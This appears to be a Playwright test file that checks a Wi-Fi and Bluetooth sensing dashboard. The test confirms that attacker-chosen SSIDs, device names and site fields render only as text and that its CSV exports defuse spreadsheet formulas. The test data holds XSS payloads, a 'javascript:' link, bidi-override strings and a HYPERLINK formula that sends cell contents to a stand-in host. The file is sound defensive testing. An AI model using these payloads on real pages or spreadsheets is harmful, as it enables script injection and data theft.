/**
 * Attacker-controlled text: SSIDs and Bluetooth names are chosen by whoever is nearby. The page
 * shows them as text and never makes an element of them.
 */
import assert from 'node:assert/strict';
import type { Locator, Page } from 'playwright-core';
import type { ApiPositions, ApiSummary } from '../../src/adapters/http/apiTypes.ts';
import type { DeviceWindow, WindowSummary } from '../../src/core/model.ts';
import { eventually, type Topic } from './browserHarness.ts';
import type { PageGlobal } from './browserHarness.ts';

const HOSTILE_SSID = '<img src=x onerror=alert(1)>';
const HOSTILE_NAME = '<script>alert(2)</script>';

/**
 * Markup that, if it ever became elements, leaves a `data-pwned` element and sets
 * `window.__pwned` (without "onerror" or "script", which the other step searches for).
 */
const payload = (n: number) => `<details data-pwned open ontoggle="window.__pwned=${n}">`;
/** A device id as a rogue sensor could send it over MQTT (any text up to 128 characters). */
const HOSTILE_ID = `pwned"${payload(1)}`;
const HOSTILE_VENDOR = `<b data-pwned>Acme</b>${payload(2)}`;
/** Spreadsheets run a cell starting with = or @ as a formula. */
const FORMULA_SSID = `=HYPERLINK("http://example.invalid/?"&A1,"pwned")`;
/** A right-to-left override: without isolation it turns the SSIDs after it around too. */
const BIDI_SSID = '\u202Epwned';
const PLAIN_SSID = 'HomeNet';
const FORMULA_NAME = `@SUM(1+1)${payload(3)}`;
/** Also turned around: the sensor's status after it must still read left to right. */
const HOSTILE_SENSOR = `\u202Ebrno${payload(4)}`;
const HOSTILE_SITE = `site${payload(5)}`;

/** RFC 4180 rows: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  return rows;
}

/** The export a link on the page points at, as rows keyed by the header. */
async function exported(page: Page, testid: string): Promise<Record<string, string>[]> {
  const href = await page.getByTestId(testid).getAttribute('href');
  assert.ok(href !== null, testid);
  const response = await fetch(href);
  assert.equal(response.status, 200, testid);
  const [header, ...rows] = parseCsv(await response.text());
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

/**
 * Left edges of the first and last letter of `word` in the element's text: the first left of
 * the last when the word reads left to right. (The tests compile without the DOM lib, and the
 * page function has no named functions inside: tsx would wrap them in a helper the page lacks.)
 */
function letterEdges(element: Locator, word: string): Promise<number[] | null> {
  return element.evaluate((el, w): number[] | null => {
    const doc = el.ownerDocument;
    const walker = doc.createTreeWalker(el, 4 /* NodeFilter.SHOW_TEXT */);
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const at: number = node.data.indexOf(w);
      if (at < 0) continue;
      const lefts: number[] = [];
      for (const offset of [at, at + w.length - 1]) {
        const range = doc.createRange();
        range.setStart(node, offset);
        range.setEnd(node, offset + 1);
        lefts.push(range.getBoundingClientRect().left);
      }
      return lefts;
    }
    return null;
  }, word);
}

function hostileDevice(
  medium: DeviceWindow['medium'],
  deviceId: string,
  text: string,
  t: number,
): DeviceWindow {
  return {
    deviceId,
    medium,
    randomized: false,
    vendor: null,
    frames: 1,
    rssi: { count: 1, mean: -50, std: 0, min: -50, max: -50 },
    ssids: [text],
    frameTypes: { [medium === 'wifi' ? 'probe-req' : 'adv-ind']: 1 },
    ieFingerprints: [],
    channels: [1],
    firstSeen: t,
    lastSeen: t,
    ...(medium === 'ble' ? { name: text } : {}),
  };
}

export const escaping: Topic = {
  // While the replay runs, after the steps that need its stream: the step opens its own page,
  // so it fills time spent waiting for the replay anyway.
  live: [
    {
      name: 'attacker text is only ever text: table cells and titles, header, SVG titles, CSV exports',
      async run(_t, { browser, pageUrl, demo, apiGet }) {
        const s = await apiGet<ApiSummary>('/api/summary');
        assert.ok(s.current !== null);
        // Two hours back and from a sensor of its own: the replay's windows and the current one stay as they are.
        const start = s.current.windowStart - 7200;
        const wifi = hostileDevice('wifi', HOSTILE_ID, FORMULA_SSID, start + 1);
        wifi.ssids = [FORMULA_SSID, BIDI_SSID, PLAIN_SSID];
        wifi.vendor = HOSTILE_VENDOR;
        const ble = hostileDevice('ble', `${HOSTILE_ID}-ble`, FORMULA_NAME, start + 2);
        await demo.store.writeWindow([
          {
            schema: 1,
            sensorId: 'rogue',
            windowStart: start,
            windowEnd: start + s.windowSeconds,
            frames: 2,
            framesWithRssi: 2,
            devices: [wifi, ble],
          },
        ]);

        // What only a rogue sensor or a foreign site file could send (a sensor id, a site name,
        // a device id in a live position): the hub's real answers with that text added.
        const page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
        const errors: string[] = [];
        const dialogs: string[] = [];
        page.on('pageerror', (error) => errors.push(error.message));
        page.on('dialog', (dialog) => {
          dialogs.push(dialog.message());
          void dialog.dismiss();
        });
        await page.route(
          (url) => url.pathname === '/api/summary',
          async (route) => {
            const summary = (await (await route.fetch()).json()) as ApiSummary;
            summary.site.name = HOSTILE_SITE;
            summary.site.projectUrl = 'javascript:window.__pwned=6';
            summary.site.sensors.push({ id: HOSTILE_SENSOR, status: 'online', lastWindowStart: start });
            await route.fulfill({ json: summary });
          },
        );
        const now = Math.floor(Date.now() / 1000);
        await page.route(
          (url) => url.pathname === '/api/positions/current',
          async (route) => {
            const positions = (await (await route.fetch()).json()) as ApiPositions;
            positions.positions.push({
              deviceId: HOSTILE_ID,
              medium: 'wifi',
              t: now,
              x: 5,
              y: 5,
              uncertainty: 1,
              sensors: 3,
              radius90: 1.6,
              zone: null,
            });
            await route.fulfill({ json: positions });
          },
        );
        try {
          await page.goto(pageUrl);
          await page.getByTestId('app').and(page.locator('[data-ready="true"]')).waitFor({ timeout: 15_000 });

          // The floor plan first: a dot fades out within three positioning windows of arriving.
          // A position's SVG title names the device as text.
          const dot = page
            .getByTestId('floor-plan')
            .locator(`[data-testid="floor-position"][data-t="${now}"]`);
          await dot.waitFor({ timeout: 10_000 });
          assert.equal(await dot.getAttribute('data-device'), HOSTILE_ID);
          const title = (await dot.locator('title').textContent()) ?? '';
          assert.ok(
            title.startsWith(`${HOSTILE_ID.slice(0, 12)}… (Wi-Fi) within 1.6 m (90%), 3 sensors`),
            title,
          );

          // The device tables: id (text, title, data attribute), manufacturer, SSIDs and names.
          const wifiTable = page.getByTestId('wifi-table');
          await wifiTable.getByTestId('search').fill('pwned');
          const row = wifiTable.locator(`tr[data-device="${HOSTILE_ID.replace(/["\\]/g, '\\$&')}"]`);
          await row.waitFor({ timeout: 10_000 });
          const idCell = row.locator('td[data-col="deviceId"]');
          assert.equal(await idCell.getAttribute('title'), HOSTILE_ID);
          assert.equal((await idCell.textContent())?.trim(), `${HOSTILE_ID.slice(0, 12)}…`);
          assert.equal(await row.locator('td[data-col="manufacturer"]').textContent(), HOSTILE_VENDOR);
          const ssidCell = row.locator('td[data-col="ssids"]');
          assert.equal(await ssidCell.textContent(), [FORMULA_SSID, BIDI_SSID, PLAIN_SSID].join(', '));
          // The override turns its own SSID around, never the next one: HomeNet still reads left to right.
          const edges = await letterEdges(ssidCell, PLAIN_SSID);
          assert.ok(edges !== null && edges[0]! < edges[1]!, `"${PLAIN_SSID}" reads left to right: ${edges}`);
          const bleTable = page.getByTestId('bluetooth-table');
          await bleTable.getByTestId('search').fill('pwned');
          await eventually(async () =>
            assert.equal(await bleTable.locator('td[data-col="ssids"]').textContent(), FORMULA_NAME),
          );

          // The header: site name and sensor ids as text, a javascript: project link refused.
          assert.equal((await page.getByTestId('site-name').textContent())?.trim(), HOSTILE_SITE);
          const sensor = page.getByTestId('sensor-list').locator('li').filter({ hasText: HOSTILE_SENSOR });
          assert.equal(await sensor.count(), 1, 'the hostile sensor id is listed as text');
          assert.equal(await sensor.getAttribute('data-sensor'), HOSTILE_SENSOR);
          const status = await letterEdges(sensor, 'online');
          assert.ok(status !== null && status[0]! < status[1]!, `its status reads left to right: ${status}`);
          assert.equal(await page.locator('a.project').getAttribute('href'), '#');

          // The CSV exports the page links to: the text kept, formulas defused with a leading apostrophe.
          const wifiRow = (await exported(page, 'export-wifi-csv')).find((r) => r.device_id === HOSTILE_ID);
          assert.ok(wifiRow !== undefined, 'the hostile Wi-Fi device is exported');
          assert.equal(wifiRow.manufacturer, HOSTILE_VENDOR);
          assert.equal(wifiRow.ssid, `'${[FORMULA_SSID, BIDI_SSID, PLAIN_SSID].join(' | ')}`);
          const bleRow = (await exported(page, 'export-bluetooth-csv')).find(
            (r) => r.device_id === `${HOSTILE_ID}-ble`,
          );
          assert.ok(bleRow !== undefined, 'the hostile Bluetooth device is exported');
          assert.equal(bleRow.ssid, `'${FORMULA_NAME}`);

          await page.waitForTimeout(300);
          assert.equal(await page.locator('[data-pwned]').count(), 0, 'no element was made from the text');
          assert.equal(
            await page.evaluate(() => (globalThis as unknown as PageGlobal).__pwned),
            undefined,
            'no handler ran',
          );
          assert.deepEqual(dialogs, [], 'no dialog opened');
          assert.deepEqual(errors, []);
        } finally {
          await page.close();
        }
      },
    },
  ],
  settled: [
    {
      name: 'a hostile SSID or name is shown as text, never run',
      async run(_t, { page, demo, apiGet, dialogs }) {
        const s = await apiGet<ApiSummary>('/api/summary');
        assert.ok(s.current !== null);
        const start = s.current.windowEnd;
        const part: WindowSummary = {
          schema: 1,
          sensorId: s.site.sensors[0]?.id ?? 'brno-lab',
          windowStart: start,
          windowEnd: start + s.windowSeconds,
          frames: 2,
          framesWithRssi: 2,
          devices: [
            hostileDevice('wifi', 'feedc0de00000000000000000000bad1', HOSTILE_SSID, start + 1),
            hostileDevice('ble', 'feedc0de00000000000000000000bad2', HOSTILE_NAME, start + 2),
          ],
        };
        await demo.store.writeWindow([part]);

        for (const [testid, search, hostile] of [
          ['wifi-table', 'onerror', HOSTILE_SSID],
          ['bluetooth-table', 'script', HOSTILE_NAME],
        ] as const) {
          const table = page.getByTestId(testid);
          await table.getByTestId('search').fill(search);
          await eventually(async () => {
            assert.equal(await table.getByTestId('row').count(), 1, `${testid} finds the hostile device`);
            assert.equal(await table.locator('td[data-col="ssids"]').textContent(), hostile);
          });
          assert.equal(
            await table.locator('tbody img, tbody script').count(),
            0,
            'no element was made from it',
          );
          await table.getByTestId('search').fill('');
        }
        await page.waitForTimeout(300);
        assert.deepEqual(dialogs, [], 'no dialog opened');
      },
    },
  ],
};
